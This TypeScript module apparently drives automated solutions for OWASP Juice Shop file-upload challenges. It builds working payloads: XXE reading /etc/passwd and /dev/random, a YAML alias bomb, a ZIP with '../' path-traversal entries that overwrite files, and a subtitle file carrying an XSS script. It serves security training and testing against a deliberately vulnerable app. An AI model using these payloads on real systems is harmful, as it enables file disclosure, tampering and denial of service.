import { crc32 } from 'node:zlib'
import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'

/** A little-endian record of `size` bytes with the given [offset, width, value] fields set. */
function record(size: number, fields: readonly [number, 2 | 4, number][]): Buffer {
  const buffer = Buffer.alloc(size)
  for (const [offset, width, value] of fields) {
    if (width === 2) buffer.writeUInt16LE(value, offset)
    else buffer.writeUInt32LE(value, offset)
  }
  return buffer
}

/** A ZIP archive (entries stored, not compressed) with exactly these entry names, `../` and all. */
export function zipOf(entries: Record<string, string>, { encrypted = false } = {}): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, text] of Object.entries(entries)) {
    const data = Buffer.from(text)
    const fileName = Buffer.from(name)
    const [flags, checksum, size] = [encrypted ? 1 : 0, crc32(data), data.length]
    const local = record(30, [[0, 4, 0x04034b50], [4, 2, 20], [6, 2, flags], [14, 4, checksum], [18, 4, size], [22, 4, size], [26, 2, fileName.length]])
    const central = record(46, [[0, 4, 0x02014b50], [4, 2, 20], [6, 2, 20], [8, 2, flags], [16, 4, checksum], [20, 4, size], [24, 4, size], [28, 2, fileName.length], [42, 4, offset]])
    locals.push(local, fileName, data)
    centrals.push(central, fileName)
    offset += local.length + fileName.length + data.length
  }
  const directory = Buffer.concat(centrals)
  const count = Object.keys(entries).length
  const end = record(22, [[0, 4, 0x06054b50], [8, 2, count], [10, 2, count], [12, 4, directory.length], [16, 4, offset]])
  return Buffer.concat([...locals, directory, end])
}

/** The complaint form's upload, which the server checks less than the web app does. */
export const uploadFile = (target: AttackTarget, name: string, content: Buffer | string) =>
  request(target).post('/file-upload').attach('file', Buffer.from(content), name)

export const PASSWD_XXE = '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order>&xxe;</order>'
export const RANDOM_XXE = '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///dev/random">]><order>&xxe;</order>'
export const HARMLESS_XML = '<?xml version="1.0"?><order><item>apple juice</item></order>'

/** The classic alias bomb: nine levels, each nine times the one before. */
export const YAML_BOMB = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...'bcdefghi'.split('').map((name, level) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[level]}`).join(',')}]`)].join('\n')

/** Where the original shop keeps the promotion video's subtitles, seen from its complaints folder. */
export const SUBTITLES_ENTRY = '../../frontend/dist/frontend/assets/public/videos/owasp_promo.vtt'
export const SUBTITLES_PAYLOAD = 'WEBVTT\n\n00:00.000 --> 00:01.000\n</script><script>alert(`xss`)</script>'

export const filesAttacks = {
  uploadSizeChallenge: (target) => uploadFile(target, 'invoice.pdf', Buffer.alloc(150_000, 'a')),
  uploadTypeChallenge: (target) => uploadFile(target, 'tool.exe', 'MZ not really a program'),
  deprecatedInterfaceChallenge: (target) => uploadFile(target, 'order.xml', HARMLESS_XML),
  xxeFileDisclosureChallenge: (target) => uploadFile(target, 'order.xml', PASSWD_XXE).set('Accept', 'application/json'),
  xxeDosChallenge: (target) => uploadFile(target, 'order.xml', RANDOM_XXE),
  yamlBombChallenge: (target) => uploadFile(target, 'order.yml', YAML_BOMB),
  fileWriteChallenge: (target) => uploadFile(target, 'evidence.zip', zipOf({ '../../ftp/legal.md': 'all rights reversed' })),
  videoXssChallenge: async (target) => {
    await uploadFile(target, 'evidence.zip', zipOf({ [SUBTITLES_ENTRY]: SUBTITLES_PAYLOAD }))
    return request(target).get('/promotion')
  },
} satisfies Attacks
